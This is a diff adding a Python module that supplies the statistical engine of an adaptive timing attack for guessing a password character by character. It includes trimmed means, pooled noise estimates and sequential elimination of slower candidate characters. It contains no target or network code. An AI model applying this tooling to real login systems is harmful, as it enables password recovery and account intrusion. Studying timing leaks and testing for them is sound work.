@@ -0,0 +1,96 @@
+"""Robust statistics and the sequential test behind the adaptive timing attack.
+
+Every candidate character is summarised by a trimmed mean (the median
+of the first three samples), and the noise of one sample by the median
+absolute deviation pooled over all candidates, so a few scheduler
+hiccups move neither.  SequentialTest looks at the samples after every
+round and drops a candidate once it trails the leader by more than
+z standard errors of the difference; only the close contenders keep
+being sampled.  The same class can replay recorded samples offline.
+"""
+import math
+from statistics import median
+
+TRIM = 0.2            # Fraction cut from each end before averaging
+Z_DROP = 4.0          # Standard errors behind the leader before a candidate is dropped
+MIN_SAMPLES = 3       # Samples every candidate gets before anything is dropped
+MAX_SAMPLES = 40      # Samples per candidate after which the leader is taken anyway
+MIN_SPREAD = 50e-6    # Noise floor (seconds): timings are never treated as exact
+
+def trimmed_mean(values, proportion=TRIM):
+    values = sorted(values)
+    # Always cut the extremes once there are three samples: the median of three beats their mean
+    cut = max(int(len(values) * proportion), 1 if len(values) >= 3 else 0)
+    kept = values[cut:len(values) - cut] or values
+    return sum(kept) / len(kept)
+
+def robust_spread(residuals, floor=MIN_SPREAD):
+    """1.4826 * median |residual|: the standard deviation for normal noise, blind to outliers."""
+    return max(floor, 1.4826 * median(abs(value) for value in residuals))
+
+class SequentialTest:
+    """Sequential elimination of candidate characters for one password position."""
+
+    def __init__(self, candidates, z=Z_DROP, min_samples=MIN_SAMPLES, max_samples=MAX_SAMPLES, trim=TRIM):
+        self.samples = {char: [] for char in candidates}
+        self.alive = list(candidates)
+        self.z = z
+        self.min_samples = min_samples
+        self.max_samples = max_samples
+        self.trim = trim
+
+    def add(self, char, seconds):
+        self.samples[char].append(seconds)
+
+    def location(self, char):
+        return trimmed_mean(self.samples[char], self.trim)
+
+    def spread(self):
+        """Noise of one sample, pooled over all candidates (they share the same server and network)."""
+        residuals = [value - median(values) for values in self.samples.values() if len(values) > 1 for value in values]
+        return robust_spread(residuals) if residuals else MIN_SPREAD
+
+    def stderr(self, char, spread=None):
+        return (spread or self.spread()) / math.sqrt(len(self.samples[char]))
+
+    def leader(self):
+        return max(self.alive, key=self.location)
+
+    def update(self):
+        """Drop every candidate that is clearly behind the leader; returns the ones left."""
+        if len(self.alive) > 1 and min(len(self.samples[char]) for char in self.alive) >= self.min_samples:
+            best = self.leader()
+            spread = self.spread()
+            best_location, best_error = self.location(best), self.stderr(best, spread)
+            self.alive = [char for char in self.alive if char == best or best_location - self.location(char)
+                          < self.z * math.hypot(best_error, self.stderr(char, spread))]
+        return self.alive
+
+    @property
+    def decided(self):
+        """True once one candidate is left (confident) or the sample budget ran out."""
+        return len(self.alive) == 1 or all(len(self.samples[char]) >= self.max_samples for char in self.alive)
+
+    @property
+    def confident(self):
+        return len(self.alive) == 1
+
+    def baseline(self):
+        """Median location over every candidate: what a wrong character costs at this position."""
+        return median(self.location(char) for char in self.samples if self.samples[char])
+
+    def requests(self):
+        return sum(len(values) for values in self.samples.values())
+
+def prefix_consistent(previous, current):
+    """Whether the position after `previous` confirms its choice.
+
+    With a correct prefix, wrong characters at the next position cost as
+    much as the previous winner did; after a wrong choice they cost as
+    much as the previous wrong characters.  previous and current are
+    SequentialTests of consecutive positions.
+    """
+    winner_level = previous.location(previous.leader())
+    wrong_level = previous.baseline()
+    level = current.baseline()
+    return abs(level - winner_level) < abs(level - wrong_level)